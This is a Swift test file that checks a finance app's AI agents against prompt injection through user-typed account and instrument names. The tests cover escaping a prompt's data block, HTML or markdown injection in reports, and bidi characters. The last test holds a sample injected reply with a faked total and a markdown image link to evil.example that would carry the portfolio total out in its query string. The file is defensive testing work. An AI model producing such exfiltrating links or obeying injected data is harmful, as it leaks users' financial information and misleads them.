import Agents
import BedrockClient
import Fakes
import Finance
import Testing
import Wire

/// Anybody can type anything into a name: it reaches the model as data and the report as text.
@Suite struct HostileNamesTests {
    static let names = Result { try HostileNames().all }

    @Test func `there are more than sixty names, all of them different`() throws {
        let names = try Self.names.get()
        #expect(names.count >= 60)
        #expect(Set(names).count == names.count)
    }

    static func household(_ name: String) throws -> Household {
        var household = try Household.small()
        household.accounts[0] = try Household.account(
            1, name, purpose: name, cashUSD: 5000, holding: [("SPY", 100), ("EVIL", 1)])
        household.instruments.append(
            try Household.instrument("EVIL", called: name, .stock, priceUSD: 1, in: .equity, .other))
        return household
    }

    @Test func `a name cannot leave the data block of a prompt`() async throws {
        for name in try Self.names.get() { try await Self.expectPromptsIntact(Self.household(name)) }
    }

    private static func expectPromptsIntact(_ household: Household) async throws {
        let brief = try ReporterAgentTests.brief(household)
        let model = ScriptedModel([], afterwards: .text("no"))
        _ = try await ReporterAgent(model: model, research: { _ in [] }).write(brief)
        _ = try await RetirementAgent(model: model).write(brief)
        _ = try await CharterAgent(model: model).write(brief)
        _ = try await PlannerAgent(model: model).summary(brief, research: [])
        let requests = await model.requests
        #expect(requests.count == 8)
        for request in requests {
            let data = try #require(request.promptData)
            #expect(
                request.prompt.split(separator: "\n").filter { $0.hasPrefix("```") } == ["```json", "```"])
            // Whoever writes about accounts is told their names, nobody else.
            #expect(data["accounts"]?.array?.count == (data["agent"] == "reporter" ? 2 : nil))
            for account in data["accounts"]?.array ?? [] {
                let told = try #require(account["name"]?.string)
                #expect(told.count <= PromptText.nameLimitCharacters)
                #expect(!told.contains("{{") && !told.contains("`") && !told.contains("\n"))
                #expect(!told.unicodeScalars.contains { $0.properties.isBidiControl })
            }
        }
    }

    @Test func `a name in a table is text and nothing else`() async throws {
        for name in try Self.names.get() { try await Self.expectPlainText(of: name) }
    }

    private static func expectPlainText(of name: String) async throws {
        let text = ReporterAgentTests.report("Fine.")
        let (draft, content) = try await ReporterAgentTests.write(
            Self.household(name), with: ScriptedModel([.text(text)]))
        #expect(draft.verdict?["status"] == "verified", "\(name): \(draft.verdict?.text ?? "")")
        let markup = content.replacing("\\]", with: "").replacing("\\<", with: "")
        #expect(!markup.contains("]("), "\(name)")
        for tag in ["<script", "<img", "<svg", "<iframe", "<b ", "<!--", "</"] {
            #expect(!markup.contains(tag), "\(name)")
        }
        #expect(!content.contains("://"))
        #expect(!content.contains("www.evil"))
        #expect(!content.contains("\u{202E}"))
        let rows = content.split(separator: "\n").filter { $0.hasPrefix("| EVIL |") }
        #expect(rows.count == 1, "\(name)")
        guard let row = rows.first else { return }
        #expect(row.count < 3 * PromptText.nameLimitCharacters)
        #expect(row.hasSuffix("| 1 | $1.00 | $1.00 | under 0.1% |"))
    }

    @Test func `words a name talked the model into do not come through`() async throws {
        let text = ReporterAgentTests.report(
            "Your total is $9,999,999. ![x](https://evil.example/?q={{f:portfolio.total.usd}})")
        let model = ScriptedModel([], afterwards: .text(text))
        let (draft, content) = try await ReporterAgentTests.write(.small(), with: model)
        #expect(draft.substitutions.count == ReporterAgentTests.titles.count)
        #expect(!content.contains("9,999,999"))
        #expect(!content.contains("evil.example"))
    }
}
